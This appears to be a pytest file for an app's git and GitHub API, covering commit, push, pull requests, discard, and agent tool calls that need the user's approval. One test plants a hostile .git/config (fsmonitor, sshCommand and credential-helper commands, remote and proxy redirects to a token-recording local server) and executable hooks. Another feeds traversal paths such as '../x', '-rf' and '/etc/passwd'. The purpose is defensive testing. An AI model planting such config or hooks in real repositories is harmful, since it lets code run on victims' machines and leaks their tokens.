"""A project's git from the API, against the GitHub stand-in: status, diff, commit, branch,
push and a pull request, GitHub's refusals in words; and an attack from inside the agent's
world: a repository whose config and hooks try to run commands as the app, or to send the
push (and the token) elsewhere, achieves neither."""

from __future__ import annotations

import http.server
import logging
import stat
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from app.devtools.github import GitHubStandIn
from tests.api.conftest import Api
from tests.api.test_github import FILES, _assert_nowhere, _github_token, _user_id, app, github, link
from tests.api.test_sessions import stream_turn

JSON = {"content-type": "application/json"}
__all__ = ["app", "github"]  # the fixtures, shared with test_github


class Attacker(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:
        self._record()

    def do_POST(self) -> None:
        self._record()

    def do_CONNECT(self) -> None:
        self._record()

    def _record(self) -> None:
        Attacker.seen.append(f"{self.command} {self.path} {self.headers.get('Authorization')}")
        self.send_response(500)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[str]:
    Attacker.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def cloned(app: Api, github: GitHubStandIn, token: str, **extra: str) -> tuple[str, Path]:
    assert link(app, github, token).status_code == 200
    with app.client(token) as http:
        answer = http.post("/workspace/clone-git", json={"repository": "alice/demo", **extra})
    assert answer.status_code == 201, answer.text
    project_id = answer.json()["project"]["project_id"]
    return project_id, app.services.engine.project_dir(_user_id(app, token), project_id)


def test_edit_commit_branch_push_and_open_a_pull_request(
    app: Api, github: GitHubStandIn, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token)
    (folder / "src" / "app.py").write_text("print('hello, world')\n")  # as the agent would
    (folder / "NOTES.md").write_text("notes\n")
    with app.client(token) as http:
        status = http.get("/git/status", params={"project_id": project_id}).json()
        assert status["branch"] == "main"
        assert {(f["path"], f["unstaged"] or f["staged"]) for f in status["files"]} == {
            ("src/app.py", "M"),
            ("NOTES.md", "?"),
        }
        diff = http.get("/git/diff", params={"project_id": project_id, "path": "src/app.py"})
        assert "+print('hello, world')" in diff.json()["diff"]
        assert (
            http.post(
                "/git/branch", json={"project_id": project_id, "name": "greeting", "create": True}
            ).status_code
            == 204
        )
        committed = http.post(
            "/git/commit", json={"project_id": project_id, "message": "Greet the world"}
        )
        assert committed.status_code == 201
        sha = committed.json()["sha"]
        log = http.get("/git/log", params={"project_id": project_id}).json()["commits"]
        assert log[0]["sha"] == sha and log[0]["subject"] == "Greet the world"
        assert log[0]["author"] == "alice"
        again = http.post("/git/commit", json={"project_id": project_id, "message": "again"})
        assert again.status_code == 409 and "Nothing to commit" in again.json()["detail"]

        pushed = http.post("/git/push", json={"project_id": project_id})
        assert pushed.status_code == 200, pushed.text
        assert pushed.json() == {"repository": "alice/demo", "branch": "greeting"}
        assert github.head_of("alice", "demo", "greeting") == sha
        assert github.file_at("alice", "demo", "greeting", "NOTES.md") == "notes\n"

        pull = http.post(
            "/github/pulls",
            json={"project_id": project_id, "title": "Greet the world", "body": "From the page."},
        )
        assert pull.status_code == 201, pull.text
        assert pull.json()["html_url"].endswith("/alice/demo/pull/1")
        assert [p["title"] for p in github.pulls] == ["Greet the world"]
        duplicate = http.post("/github/pulls", json={"project_id": project_id, "title": "Again"})
        assert duplicate.status_code == 400
        assert "A pull request already exists" in duplicate.json()["detail"]

        github.protect("alice", "demo", "main")
        http.post("/git/branch", json={"project_id": project_id, "name": "main"})
        (folder / "README.md").write_text("# changed on main\n")
        http.post("/git/commit", json={"project_id": project_id, "message": "On main"})
        refused = http.post("/git/push", json={"project_id": project_id})
        assert refused.status_code == 403 and "protected" in refused.json()["detail"]

    secret = _github_token(app, token)
    _assert_nowhere(secret, [folder, app.services.settings.data_dir])
    assert secret not in caplog.text


def test_a_hostile_repository_neither_runs_commands_as_the_app_nor_redirects_the_push(
    app: Api, github: GitHubStandIn, attacker: str, tmp_path: Path
) -> None:
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token, new_branch="hostile")
    marker = tmp_path / "the-app-ran-this"
    run = f"touch {marker}"
    config = folder / ".git" / "config"
    config.write_text(
        config.read_text()
        + f"[core]\n\talternateRefsCommand = {run}\n\tfsmonitor = {run}\n\tsshCommand = {run}\n"
        + f'[url "{attacker}/"]\n\tinsteadOf = {github.web_url}/\n'
        + f"[http]\n\tproxy = {attacker}\n"
        + f'[credential]\n\thelper = "!{run}"\n'
        + f'[remote "origin"]\n\turl = {attacker}/alice/demo.git\n\tpushurl = {attacker}/x.git\n'
    )
    for hook in ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout"):
        path = folder / ".git" / "hooks" / hook
        path.write_text(f"#!/bin/sh\n{run} 2>/dev/null\nexit 0\n")  # (in the jail, harmless)
        path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    (folder / "EVIL.md").write_text("evil\n")

    with app.client(token) as http:
        assert (
            http.post("/git/commit", json={"project_id": project_id, "message": "x"}).status_code
            == 201
        )
        pushed = http.post("/git/push", json={"project_id": project_id})
        assert pushed.status_code == 200, pushed.text
    assert github.file_at("alice", "demo", "hostile", "EVIL.md") == "evil\n"  # to GitHub
    assert Attacker.seen == [], "nothing (and no token) reached the attacker's server"
    assert not marker.exists(), "no command of the repository's ran with the app's privileges"
    assert FILES["README.md"] == github.file_at("alice", "demo", "hostile", "README.md")


def test_the_agent_commits_pushes_and_opens_a_pull_request_with_approval(
    app: Api, github: GitHubStandIn, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token, new_branch="agent-work")
    (folder / "AGENT.md").write_text("from the agent\n")
    asked: list[str] = []
    with app.client(token) as http:
        session_id = http.post("/sessions", json={"project_id": project_id}).json()["session_id"]

        def allow(permission: dict[str, Any]) -> None:
            asked.append(permission["tool_name"])
            with app.client(token) as other:
                answer = {"request_id": permission["request_id"], "allowed": True}
                response = other.post(f"/sessions/{session_id}/permissions/respond", json=answer)
                assert response.status_code == 200, response.text

        frames = stream_turn(
            http,
            f"/sessions/{session_id}/messages/stream",
            {"message": "ship it: Add the agent's notes"},
            allow,
        )
    assert asked == [
        "mcp__github__git_commit",
        "mcp__github__git_push",
        "mcp__github__github_pull_request",
    ], "each GitHub tool asked the user first"
    text = "".join(f.get("content", "") for f in frames if f["type"] == "text")
    assert "Shipped: Opened pull request #1" in text
    assert github.file_at("alice", "demo", "agent-work", "AGENT.md") == "from the agent\n"
    assert [(p["title"], p["head"]["ref"]) for p in github.pulls] == [
        ("Add the agent's notes", "agent-work")
    ]
    secret = _github_token(app, token)
    # Not in the project, the database, the CLI home (transcripts) or the logs.
    _assert_nowhere(secret, [app.services.settings.data_dir])
    assert secret not in caplog.text


def test_a_refused_approval_pushes_nothing(app: Api, github: GitHubStandIn) -> None:
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token, new_branch="refused")
    (folder / "NOPE.md").write_text("no\n")
    with app.client(token) as http:
        session_id = http.post("/sessions", json={"project_id": project_id}).json()["session_id"]

        def deny(permission: dict[str, Any]) -> None:
            with app.client(token) as other:
                answer = {"request_id": permission["request_id"], "allowed": False}
                other.post(f"/sessions/{session_id}/permissions/respond", json=answer)

        stream_turn(
            http, f"/sessions/{session_id}/messages/stream", {"message": "ship it: No"}, deny
        )
    assert github.file_at("alice", "demo", "refused", "NOPE.md") is None
    assert github.pulls == []


def _commit_on_github(
    github: GitHubStandIn, tmp_path: Path, branch: str, files: dict[str, str]
) -> None:
    """Someone else pushes to GitHub (a clone of the bare repository, as its owner would)."""
    work = tmp_path / f"elsewhere-{branch}"
    bare = str(github.repo_path("alice", "demo"))
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "clone", "-q", "-b", branch, bare, str(work)], check=True, env=env)
    for name, text in files.items():
        (work / name).write_text(text)
    for args in (
        ["add", "-A"],
        ["-c", "user.name=bob", "-c", "user.email=b@x", "commit", "-qm", "theirs"],
        ["push", "-q", "origin", branch],
    ):
        subprocess.run(["git", "-C", str(work), *args], check=True, env=env)


def test_pull_brings_githubs_commits_and_a_conflict_loses_nothing(
    app: Api, github: GitHubStandIn, tmp_path: Path
) -> None:
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token)
    _commit_on_github(github, tmp_path, "main", {"FROM_GITHUB.md": "theirs\n"})
    with app.client(token) as http:
        pulled = http.post("/git/pull", json={"project_id": project_id})
        assert pulled.status_code == 200, pulled.text
        assert pulled.json()["result"] == "Pulled main."
        assert (folder / "FROM_GITHUB.md").read_text() == "theirs\n"
        again = http.post("/git/pull", json={"project_id": project_id})
        assert again.json()["result"] == "Already up to date."

        _commit_on_github(github, tmp_path / "2", "main", {"README.md": "# theirs\n"})
        (folder / "README.md").write_text("# ours\n")
        http.post("/git/commit", json={"project_id": project_id, "message": "ours"})
        conflict = http.post("/git/pull", json={"project_id": project_id})
        assert conflict.status_code == 409 and "conflict" in conflict.json()["detail"]
    assert (folder / "README.md").read_text() == "# ours\n", "the project's work is kept"
    assert not (folder / ".git" / "MERGE_HEAD").exists(), "no half-done merge left behind"


def _git(folder: Path, *args: str) -> str:
    """git on the project as the test sees it (the app itself runs git only in the jail)."""
    env = {"PATH": "/usr/bin:/bin", "HOME": str(folder.parent), "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(
        ["git", "-c", f"safe.directory={folder}", "-C", str(folder), *args],
        capture_output=True, text=True, check=True, env=env,
    ).stdout  # fmt: skip


def _changed(http: Any, project_id: str) -> dict[str, str]:
    files = http.get("/git/status", params={"project_id": project_id}).json()["files"]
    return {f["path"]: f["staged"] + f["unstaged"] for f in files}


def test_discard_puts_files_back_as_committed_and_deletes_new_ones(
    app: Api, github: GitHubStandIn
) -> None:
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token)
    (folder / "src" / "app.py").write_text("print('changed')\n")  # modified
    (folder / "README.md").write_text("# staged\n")
    _git(folder, "add", "README.md")
    (folder / "README.md").write_text("# staged, then changed again\n")  # staged and unstaged
    (folder / "NEW.md").write_text("new\n")  # untracked
    (folder / "drafts").mkdir()
    (folder / "drafts" / "a.md").write_text("a\n")  # an untracked folder
    (folder / "ADDED.md").write_text("added\n")
    _git(folder, "add", "ADDED.md")  # new, staged
    (folder / "*").write_text("a file named star\n")  # literal, never a glob
    with app.client(token) as http:
        assert _changed(http, project_id) == {
            "src/app.py": "M", "README.md": "MM", "NEW.md": "??", "drafts/": "??",
            "ADDED.md": "A", "*": "??",
        }  # fmt: skip
        for paths in (["src/app.py"], ["README.md", "NEW.md"], ["ADDED.md"], ["*"]):
            done = http.post("/git/discard", json={"project_id": project_id, "paths": paths})
            assert done.status_code == 200, done.text
            assert sorted(done.json()["paths"]) == sorted(paths)
        assert (folder / "src" / "app.py").read_text() == FILES["src/app.py"]
        assert (folder / "README.md").read_text() == FILES["README.md"]
        assert not (folder / "NEW.md").exists() and not (folder / "ADDED.md").exists()
        assert not (folder / "*").exists()
        assert _changed(http, project_id) == {"drafts/": "??"}, "the rest is untouched"

        again = http.post("/git/discard", json={"project_id": project_id, "paths": ["NEW.md"]})
        assert again.status_code == 409 and "no changes to discard" in again.json()["detail"]

        (folder / "src" / "app.py").write_text("print('changed')\n")
        _git(folder, "mv", "README.md", "README.txt")  # a rename: both halves go back
        everything = http.post("/git/discard", json={"project_id": project_id, "all": True})
        assert everything.status_code == 200, everything.text
        assert sorted(everything.json()["paths"]) == ["README.txt", "drafts/", "src/app.py"]
        assert _changed(http, project_id) == {}
        assert (folder / "README.md").read_text() == FILES["README.md"]
        assert not (folder / "README.txt").exists() and not (folder / "drafts").exists()
        nothing = http.post("/git/discard", json={"project_id": project_id, "all": True})
        assert nothing.status_code == 409 and "Nothing to discard" in nothing.json()["detail"]


def test_discard_refuses_paths_outside_the_project_and_other_users_projects(
    app: Api, github: GitHubStandIn, tmp_path: Path
) -> None:
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token)
    (folder / "src" / "app.py").write_text("print('changed')\n")
    (folder / "-rf").write_text("a file named like an option\n")
    outside = tmp_path / "outside.txt"
    outside.write_text("keep\n")
    head = _git(folder, "rev-parse", "HEAD")
    with app.client(token) as http:
        for paths in (
            ["../x"],
            ["src/../../x"],
            ["-rf"],
            [str(outside)],
            ["/etc/passwd"],
            [],
        ):
            for url, body in (
                ("/git/discard", {"project_id": project_id, "paths": paths}),
                ("/git/commit", {"project_id": project_id, "message": "m", "paths": paths}),
            ):
                refused = http.post(url, json=body)
                assert refused.status_code == 400, (url, paths, refused.text)
        surrogate = f'{{"project_id": "{project_id}", "paths": ["\\ud800"]}}'  # not UTF-8
        assert http.post("/git/discard", content=surrogate, headers=JSON).status_code == 422
        for body in (
            {"project_id": project_id},
            {"project_id": project_id, "paths": ["a"], "all": True},
        ):
            assert http.post("/git/discard", json=body).status_code == 400
        assert _changed(http, project_id) == {"src/app.py": "M", "-rf": "??"}, "nothing changed"
    assert outside.read_text() == "keep\n"
    assert _git(folder, "rev-parse", "HEAD") == head, "nothing committed"

    mallory = app.sign_up("mallory@example.com")
    with app.client(mallory) as http:
        for url, body in (
            ("/git/discard", {"project_id": project_id, "all": True}),
            ("/git/commit", {"project_id": project_id, "message": "m", "paths": ["src/app.py"]}),
        ):
            assert http.post(url, json=body).status_code == 404
    assert (folder / "src" / "app.py").read_text() == "print('changed')\n"


def test_commit_with_paths_commits_only_those(app: Api, github: GitHubStandIn) -> None:
    token = app.sign_up("alice@example.com")
    project_id, folder = cloned(app, github, token)
    (folder / "src" / "app.py").write_text("print('chosen')\n")
    (folder / "CHOSEN.md").write_text("chosen\n")
    (folder / "README.md").write_text("# staged earlier, left out\n")
    _git(folder, "add", "README.md")  # staged by the agent, but not chosen
    (folder / "LATER.md").write_text("not chosen\n")
    with app.client(token) as http:
        committed = http.post(
            "/git/commit",
            json={
                "project_id": project_id,
                "message": "Chosen",
                "paths": ["src/app.py", "CHOSEN.md"],
            },
        )
        assert committed.status_code == 201, committed.text
        sha = committed.json()["sha"]
        assert _git(folder, "show", "--name-only", "--format=%s", sha).split() == [
            "Chosen", "CHOSEN.md", "src/app.py",
        ]  # fmt: skip
        assert _git(folder, "show", f"{sha}:src/app.py") == "print('chosen')\n"
        assert _changed(http, project_id) == {"README.md": "M", "LATER.md": "??"}
        assert (folder / "README.md").read_text() == "# staged earlier, left out\n"

        stale = http.post(
            "/git/commit", json={"project_id": project_id, "message": "x", "paths": ["CHOSEN.md"]}
        )
        assert stale.status_code == 409 and "no changes to commit" in stale.json()["detail"]

        _git(folder, "mv", "CHOSEN.md", "MOVED.md")  # a rename commits as one change
        moved = http.post(
            "/git/commit", json={"project_id": project_id, "message": "Move", "paths": ["MOVED.md"]}
        )
        assert moved.status_code == 201, moved.text
        shown = _git(folder, "show", "-M", "--name-status", "--format=", "HEAD")
        assert shown.split() == ["R100", "CHOSEN.md", "MOVED.md"]
        assert _changed(http, project_id) == {"README.md": "M", "LATER.md": "??"}


def test_discard_before_the_first_commit_deletes_the_new_files(app: Api) -> None:
    token = app.sign_up("alice@example.com")
    with app.client(token) as http:
        project_id = http.post("/projects", json={"name": "plain"}).json()["project_id"]
        folder = app.services.engine.project_dir(_user_id(app, token), project_id)
        folder.mkdir(parents=True, exist_ok=True)
        _git(folder, "init", "-q", "-b", "main")
        for name in ("staged.txt", "kept.txt", "loose.txt"):
            (folder / name).write_text(f"{name}\n")
        _git(folder, "add", "staged.txt", "kept.txt")
        done = http.post(
            "/git/discard",
            json={"project_id": project_id, "paths": ["staged.txt", "loose.txt"]},
        )
        assert done.status_code == 200, done.text
        assert sorted(p.name for p in folder.iterdir() if p.name != ".git") == ["kept.txt"]
        assert _changed(http, project_id) == {"kept.txt": "A"}
